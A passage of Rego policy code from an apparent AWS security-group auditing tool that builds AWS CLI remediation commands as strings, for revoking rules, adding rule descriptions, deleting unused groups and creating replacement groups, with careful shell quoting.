	{"ingress": "ingress", "egress": "egress"}[r.direction], g.region, g.id, permission,
]) if {
	# The usual case without a rule id (exported describe-security-groups
	# JSON): the last branch's command, with target's fast path (safe_pair,
	# inlined) and nothing to quote in the shorthand, for one regex and no
	# quoting calls.
	object.get(r, "id", "") == ""
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`, concat(" ", [g.region, g.id]))
	permission := ip_permission(g, r)
	not contains(permission, "'")
}

else := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
	revoke_verb[r.direction], target(g), shell_word(r.id),
]) if {
	object.get(r, "id", "") != ""
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	revoke_verb[r.direction], target(g), shell_quote(ip_permission(g, r)),
]) if {
	revoke_verb[r.direction]
}

else := ""

# revoke_rules_command(g, rules) removes rules of one direction in one
# command: the rules of a set that is the world together (world_source).
revoke_rules_command(g, rules) := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --security-group-rule-ids %s", [
	{"ingress": "ingress", "egress": "egress"}[r.direction], g.region, g.id, r.id,
]) if {
	# revoke_command's fast path, inlined: one call per finding, not two.
	count(rules) == 1
	r := rules[0]
	r.id != ""
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`, concat(" ", [g.region, g.id, r.id]))
}

else := revoke_command(g, rules[0]) if count(rules) == 1

else := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
	revoke_verb[rules[0].direction], target(g), concat(" ", ids),
]) if {
	ids := [shell_word(r.id) | some r in rules; object.get(r, "id", "") != ""]
	count(ids) == count(rules)
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	revoke_verb[rules[0].direction], target(g),
	concat(" ", [shell_quote(ip_permission(g, r)) | some r in rules]),
]) if {
	revoke_verb[rules[0].direction]
}

else := ""

# revoke_all_command(g) removes every rule of g, one command per direction
# joined with && (ingress first), each listing all the rule ids. The first
# branch is the usual case, every rule with an AWS id and nothing to quote,
# told by one regex (safe_word, inlined, over region, group id and rule
# ids): half the cost of a call per direction with its else chain, which
# is most of an SGA009 finding.
revoke_all_command(g) := concat(" && ", [sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --security-group-rule-ids %s", [
	dir, g.region, g.id, concat(" ", ids),
]) |
	some dir in ["ingress", "egress"]
	ids := sort([r.id | some r in g.rules; r.direction == dir])
	ids[0]
]) if {
	words := array.concat([g.region, g.id], [object.get(r, "id", "") | some r in g.rules])
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]*( [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*)*$`, concat(" ", words))
}

else := concat(" && ", [cmd |
	some dir in ["ingress", "egress"]
	cmd := revoke_direction_command(g, dir)
])

revoke_direction_command(g, dir) := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
	revoke_verb[dir], target(g), concat(" ", ids),
]) if {
	rules := [r | some r in g.rules; r.direction == dir]
	count(rules) > 0
	ids := sort([shell_word(r.id) | some r in rules; object.get(r, "id", "") != ""])
	count(ids) == count(rules)
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	revoke_verb[dir], target(g), concat(" ", perms),
]) if {
	perms := [shell_quote(ip_permission(g, r)) | some r in g.rules; r.direction == dir]
	count(perms) > 0
}

# description_extra puts the placeholder a person fills in into the shorthand.
description_extra := `,Description="<why this rule exists>"`

# describe_rule_command(g, r) sets a rule's description. The --ip-permissions
# form works with or without a rule id. SGA007 has a finding per
# undescribed rule, so the usual case (AWS ids, no quote in the shorthand)
# takes a fast path: one regex, no quoting calls.
describe_rule_command(g, r) := sprintf("aws ec2 update-security-group-rule-descriptions-%s --region %s --group-id %s --ip-permissions '%s,%s'", [
	{"ingress": "ingress", "egress": "egress"}[r.direction], g.region, g.id, protocol, peer,
]) if {
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`, concat(" ", [g.region, g.id]))
	protocol := ip_protocol_part(r.protocol, r.from_port, r.to_port)
	peer := peer_part(r.peer.kind, r.peer, g.account_id, `,Description="<why this rule exists>"`)
	not contains(peer, "'")
}

else := sprintf("aws ec2 %s %s --ip-permissions %s", [
	describe_verb[r.direction], target(g),
	shell_quote(sprintf("%s,%s", [
		ip_protocol_part(r.protocol, r.from_port, r.to_port),
		peer_part(r.peer.kind, r.peer, g.account_id, description_extra),
	])),
]) if {
	describe_verb[r.direction]
}

else := ""

# delete_command(g) deletes an unused group.
delete_command(g) := sprintf("aws ec2 delete-security-group %s", [target(g)])

# replacement_command(g) creates a replacement group with a real description:
# EC2 cannot change a group's description, and group names are unique per
# VPC, so the replacement takes a new name; the interfaces then move to it.
replacement_command(g) := sprintf(`aws ec2 create-security-group --region %s%s --group-name %s --description "<what this group is for>"`, [
	shell_word(g.region), vpc_flag(g), shell_quote(sprintf("%s-v2", [g.name])),
])

vpc_flag(g) := sprintf(" --vpc-id %s", [shell_word(g.vpc_id)]) if object.get(g, "vpc_id", "") != ""

else := ""
